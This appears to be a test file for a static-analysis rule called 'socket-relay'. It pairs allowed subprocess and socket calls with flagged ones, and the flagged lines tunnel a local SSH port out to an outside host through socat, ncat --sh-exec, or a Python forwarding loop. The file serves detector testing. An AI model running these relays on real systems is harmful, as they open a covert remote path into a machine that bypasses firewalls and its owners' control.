import subprocess

# ok: socket-relay
subprocess.Popen(["socat", "TCP-LISTEN:5433,fork", "TCP:db.internal:5432"])
# ok: socket-relay
subprocess.run(["socat", "-V"])
# ruleid: socket-relay
subprocess.Popen(["socat", "TCP:203.0.113.9:443", "TCP:localhost:22"])
# ruleid: socket-relay
subprocess.Popen("ncat 203.0.113.9 443 --sh-exec 'ncat localhost 22'", shell=True)


import socket


def relay(host: str) -> None:
    far = socket.create_connection((host, 443))
    near = socket.create_connection(("127.0.0.1", 22))
    while data := far.recv(4096):
        # ruleid: socket-relay
        near.sendall(data)


def check(host: str) -> None:
    far = socket.create_connection((host, 443))
    near = socket.create_connection(("127.0.0.1", 22))
    # ok: socket-relay
    far.sendall(b"HEAD / HTTP/1.0\r\n\r\n")
    print(near.recv(64), far.recv(64))


check("status.example")
relay("203.0.113.9")
